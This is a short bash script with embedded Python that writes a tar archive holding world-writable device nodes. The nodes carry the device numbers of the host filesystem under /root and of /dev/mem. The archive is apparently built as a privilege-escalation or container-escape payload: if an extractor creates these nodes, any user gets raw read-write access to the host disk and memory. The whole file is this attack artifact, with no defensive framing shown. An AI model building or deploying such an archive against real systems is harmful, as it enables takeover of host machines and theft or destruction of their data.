#!/bin/bash
# A tar holding a block device with the numbers of the host's /root filesystem and /dev/mem's.
python3 - <<'PY'
import os, tarfile
dev = os.stat('/root').st_dev
with tarfile.open('devs.tar', 'w') as t:
    for name, major, minor, kind in [('disk', os.major(dev), os.minor(dev), tarfile.BLKTYPE), ('mem', 1, 1, tarfile.CHRTYPE)]:
        info = tarfile.TarInfo(name)
        info.type, info.devmajor, info.devminor, info.mode = kind, major, minor, 0o666
        t.addfile(info)
PY
